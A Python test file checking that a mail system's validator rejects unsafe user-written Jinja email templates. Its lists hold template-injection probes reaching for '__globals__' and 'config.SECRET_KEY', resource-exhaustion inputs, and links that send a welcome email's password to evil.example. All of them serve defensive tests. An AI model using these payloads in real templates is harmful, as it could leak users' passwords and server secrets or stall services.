"""Letters in the producer's own words: what a text may do, and what it is held to."""

import time
from contextlib import suppress

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from config import LANGUAGES
from receiver.mailer import BadText, Enclosed, Source, faults, source, try_own, write
from receiver.mailer.allowed import LONGEST_SOURCE, check
from receiver.mailer.own import LONGEST_LETTER
from receiver.models import Letter, LetterTemplate
from receiver.rules import reasons
from receiver.rules.letter_kinds import LetterKind
from tests.letters import ENCLOSED, NOW, a_letter, some_settings

KINDS = [(kind, language) for kind in LetterKind for language in LANGUAGES]
WELCOME = "Oi, {{ first_name }}!\n\n[Entrar]({{ link }})\n\nSenha: {{ password }}\n"

TOO_MUCH = [
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ 'x' * 10**9 }}",
    "{{ 10**10**10 }}",
    "{{ 'a'.__class__.__mro__ }}",
    "{{ site['__class__'] }}",
    "{{ site|attr('__class__') }}",
    "{{ areas|map('upper') }}",
    "{{ reason|join('xxxxxxxx')|join('xxxxxxxx') }}",
    "{{ '%1000000000d'|format(1) }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ site ~ site }}",
    "{{ lipsum(n=100000) }}",
    "{{ cycler('a').__init__.__globals__ }}",
    "{{ self.__init__ }}",
    "{{ config.SECRET_KEY }}",
    "{{ site is defined }}",
    "{{ site() }}",
    "{{ areas[0] }}",
    "{{ {'a': 1} }}",
    "{% set x = 'a' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}",
    "{% include 'layout.html' %}",
    "{% extends 'layout.html' %}",
    "{% import 'layout.html' as x %}",
    "{% block a %}{% endblock %}",
    "{% call site() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% raw %}{{ link }}{% endraw %}",
    "{% for a in areas %}{% for b in areas %}x{% endfor %}{% endfor %}",
    "{% for a in areas recursive %}{{ loop(areas) }}{% endfor %}",
    "{% for a in site %}x{% endfor %}",
    "{% for link in areas %}{{ link }}{% endfor %}",
    "{% for a, b in areas %}x{% endfor %}",
    "{{ " + "(" * 400 + "site" + ")" * 400 + " }}",
    "{{ " + "not " * 2000 + "site }}",
    "{% if site %}" * 200 + "{% endif %}" * 200,
    "{{ site }}" * 301,
    "{{ " + "9" * 9000 + " }}",
    "x" * (LONGEST_SOURCE + 1),
    "{{ site",
    "{% if site %}",
    "{{ 'a' if site }}",
    "{{ the vault }}",
]
NAMES = {"site", "areas", "reason", "link"}


@pytest.mark.parametrize("text", TOO_MUCH, ids=lambda text: text[:40])
def test_a_text_may_not_compute_call_reach_or_repeat(text: str) -> None:
    began = time.process_time()  # not that of a busy machine
    with pytest.raises(BadText):
        check(text, NAMES)
    assert time.process_time() - began < 0.5


SIGNS = (
    "{{ }} {% %} {# #} {%- -%} if for in areas endfor endif else elif site link not and or == * ** "
    "/ ( ) [ ] { } . | ~ , 'x' '' 10**9 9 range set macro raw upper join a"
)
PIECES = st.sampled_from(SIGNS.split())
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=60).map(" ".join)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
@example("{% for a in areas %}{{ a }}{{ a }}{% endfor %}")
def test_whatever_is_written_ends_soon_as_a_letter_or_with_a_reason(text: str) -> None:
    letter = a_letter(LetterKind.NEW_AREA, facts={"areas": ["x" * 200] * 5000})
    letter.facts["draft"] = {"subject": "s", "preview": "", "body": text}
    began = time.process_time()
    try:
        written = try_own(letter, Enclosed(), some_settings())
    except BadText as fault:
        assert fault.reason in reasons.WORDS
    else:
        assert written and len(written.text) <= 2 * LONGEST_LETTER
    assert time.process_time() - began < 1


SLOW = ["[" * 9000, "> " * 4500, "*a " * 3000, "**" * 4500, "`" * 9000, "- " * 4500, "[a](" * 2200]


@pytest.mark.parametrize("body", SLOW, ids=lambda body: body[:4])
def test_no_markdown_holds_anybody_up(body: str) -> None:
    began = time.process_time()
    with suppress(BadText):
        try_own(own_letter(body[:LONGEST_SOURCE]), Enclosed(), some_settings())
    assert time.process_time() - began < 2


def found(kind: LetterKind, body: str, subject: str = "Oi", preview: str = "") -> list[str]:
    """What is wrong with a text of such a letter."""
    text = Source(subject=subject, preview=preview, body=body)
    return [f.reason for f in faults(kind, "pt_BR", text, settings=some_settings(), now=NOW)]


@pytest.mark.parametrize(("kind", "language"), KINDS)
def test_every_letter_as_shipped_would_be_taken_as_ones_own(
    kind: LetterKind, language: str
) -> None:
    text = source.load(kind, language)
    assert faults(kind, language, text, settings=some_settings(), now=NOW) == []
    assert faults(kind, language, text, settings=some_settings(welcome="link"), now=NOW) == []


@pytest.mark.parametrize(("kind", "language"), KINDS)
def test_the_same_text_as_ones_own_makes_the_same_letter(kind: LetterKind, language: str) -> None:
    shipped, own = (a_letter(kind, language=language) for _ in range(2))
    text = source.load(kind, language)
    own.template_id, own.template = 1, LetterTemplate(**vars(text))
    ours = try_own(own, ENCLOSED, some_settings())
    assert ours is not None
    assert try_own(shipped, ENCLOSED, some_settings()) is None
    assert ours == write(shipped, ENCLOSED, some_settings())


FAULTY = [
    ("Oi", "text-lacks-field"),
    ("[Entrar]({{ link }})", "text-lacks-field"),
    ("{{ link }} {% if has_password %}{{ password }}{% endif %}", "text-lacks-field"),
    (WELCOME + "[x](https://evil.example/?p={{ password }})", "text-field-not-alone"),
    (WELCOME + "[x](https://evil.example/?l={{ link }})", "text-field-not-alone"),
    (WELCOME + "https://evil.example/?p={{ password }}", "text-field-not-alone"),
    (WELCOME + "evil.example/{{ password }}", "text-field-not-alone"),
    (WELCOME + "[x]({{ password }})", "text-field-not-alone"),
    (WELCOME + "{{ code }}", "text-unknown-field"),
    (WELCOME + "{{ nome }}", "text-unknown-field"),
    (WELCOME + "{% if 'a' in is_again %}x{% endif %}", "text-not-filled-in"),
    ("  ", "text-no-body"),
    (WELCOME, None),
    (WELCOME + "[Fale com a gente](https://wa.me/5511999999999)", None),
]


@pytest.mark.parametrize(("body", "reason"), FAULTY)
def test_a_welcome_must_tell_link_and_password_and_each_of_them_alone(
    body: str, reason: str | None
) -> None:
    assert found(LetterKind.WELCOME, body) == ([reason] if reason else [])


def test_a_subject_is_there_and_names_no_secret() -> None:
    assert found(LetterKind.WELCOME, WELCOME, subject="{{ password }}") == ["text-secret-in-line"]
    assert found(LetterKind.WELCOME, WELCOME, preview="{{ link }}") == ["text-secret-in-line"]
    assert found(LetterKind.WELCOME, WELCOME, subject=" ") == ["text-no-subject"]
    assert found(LetterKind.WELCOME, WELCOME, subject="{% if until %}x{% endif %}")


def test_a_fault_tells_where_it_is() -> None:
    text = Source(subject="Oi", preview="", body="um\n\n{{ nome }}")
    [fault] = faults(LetterKind.NEW_AREA, "pt_BR", text, settings=some_settings(), now=NOW)
    assert fault.facts == {"line": 3, "field": "nome", "part": "body"}
    said = reasons.say(fault.reason, fault.facts, "pt_BR")
    assert "linha 3" in said and "nome" in said


def test_html_and_pictures_stay_text() -> None:
    letter = own_letter("<b>a</b> <script>x()</script> ![x](https://evil.example/x.png)")
    written = try_own(letter, Enclosed(), some_settings())
    assert written is not None
    assert (
        "<script>" not in written.html and "<img" not in written.html and "<b>" not in written.html
    )


def test_a_letter_that_grows_beyond_measure_is_stopped() -> None:
    letter = own_letter("{% for a in areas %}" + "x" * 7000 + "{{ a }}{% endfor %}")
    letter.facts["areas"] = ["y"] * 90
    with pytest.raises(BadText) as fault:
        try_own(letter, Enclosed(), some_settings())
    assert fault.value.reason == "text-grows-too-long"


def own_letter(body: str) -> Letter:
    letter = a_letter(LetterKind.NEW_AREA)
    letter.facts = {**letter.facts, "draft": {"subject": "s", "preview": "", "body": body}}
    return letter
